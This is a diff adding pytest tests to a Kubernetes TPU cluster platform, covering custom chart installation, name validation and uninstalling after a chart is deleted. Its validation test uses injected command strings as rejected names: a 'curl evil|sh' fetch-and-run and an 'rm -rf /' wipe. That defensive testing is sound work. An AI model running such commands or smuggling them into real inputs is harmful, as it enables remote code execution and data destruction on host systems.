@@ -114,3 +114,58 @@ def test_app_routes_over_api(platform, fake_executor, running_tpu_cluster):
             assert r.status == 400
 
     asyncio.run(scenario())
+
+
+def test_custom_chart_installs_like_builtin(platform, fake_executor, running_tpu_cluster):
+    """User-authored charts (the chartmuseum-role replacement) render and
+    apply through the same runtime path as built-ins, with the same
+    slice-aware parameters."""
+    from kubeoperator_tpu.resources.entities import CustomChart
+
+    platform.store.save(CustomChart(
+        name="my-trainer",
+        template=("apiVersion: batch/v1\nkind: Job\n"
+                  "metadata: {name: my-trainer}\n"
+                  "spec:\n  template:\n    spec:\n      containers:\n"
+                  "      - name: t\n        image: \"{registry}/ko-workloads:latest\"\n"
+                  "        env: [{name: SLICE, value: \"{slice_id}\"}]\n")))
+    result = platform.install_app("rt", "my-trainer")
+    assert result["vars"]["slice_id"] == "slice-a"
+    manifest = fake_executor.host("10.0.0.1").files[
+        "/etc/kubernetes/addons/app-my-trainer.yaml"].decode()
+    assert 'image: "reg.local:8082/ko-workloads:latest"' in manifest
+    assert 'value: "slice-a"' in manifest
+    # unknown placeholders survive untouched (no KeyError on user braces)
+    platform.store.save(CustomChart(name="braces", template="x: \"{unknown}\""))
+    platform.install_app("rt", "braces")
+    assert fake_executor.host("10.0.0.1").files[
+        "/etc/kubernetes/addons/app-braces.yaml"] == b'x: "{unknown}"'
+    platform.uninstall_app("rt", "my-trainer")
+
+
+def test_chart_name_validation_and_shadowing(platform, running_tpu_cluster):
+    with pytest.raises(PlatformError, match="invalid chart name"):
+        platform.create_chart("x; curl evil|sh", "kind: Job")
+    with pytest.raises(PlatformError, match="built-in"):
+        platform.create_chart("jax-resnet50", "kind: Job")
+    with pytest.raises(PlatformError, match="empty"):
+        platform.create_chart("empty-chart", "  ")
+    # install path re-validates names too (defense in depth)
+    with pytest.raises(PlatformError, match="invalid app name"):
+        platform.install_app("rt", "x;rm -rf /")
+
+
+def test_uninstall_survives_chart_deletion(platform, fake_executor, running_tpu_cluster):
+    """Deleting the CustomChart row must not orphan an installed workload:
+    uninstall uses the manifest file install left on the master."""
+    from kubeoperator_tpu.resources.entities import CustomChart
+
+    platform.create_chart("ephemeral", "apiVersion: v1\nkind: ConfigMap\n"
+                                       "metadata: {name: ephemeral}")
+    platform.install_app("rt", "ephemeral")
+    chart = platform.store.get_by_name(CustomChart, "ephemeral", scoped=False)
+    platform.store.delete(CustomChart, chart.id)
+    result = platform.uninstall_app("rt", "ephemeral")
+    assert result["uninstalled"]
+    assert fake_executor.ran(
+        "10.0.0.1", r"kubectl .*delete -f .*app-ephemeral.* --ignore-not-found")
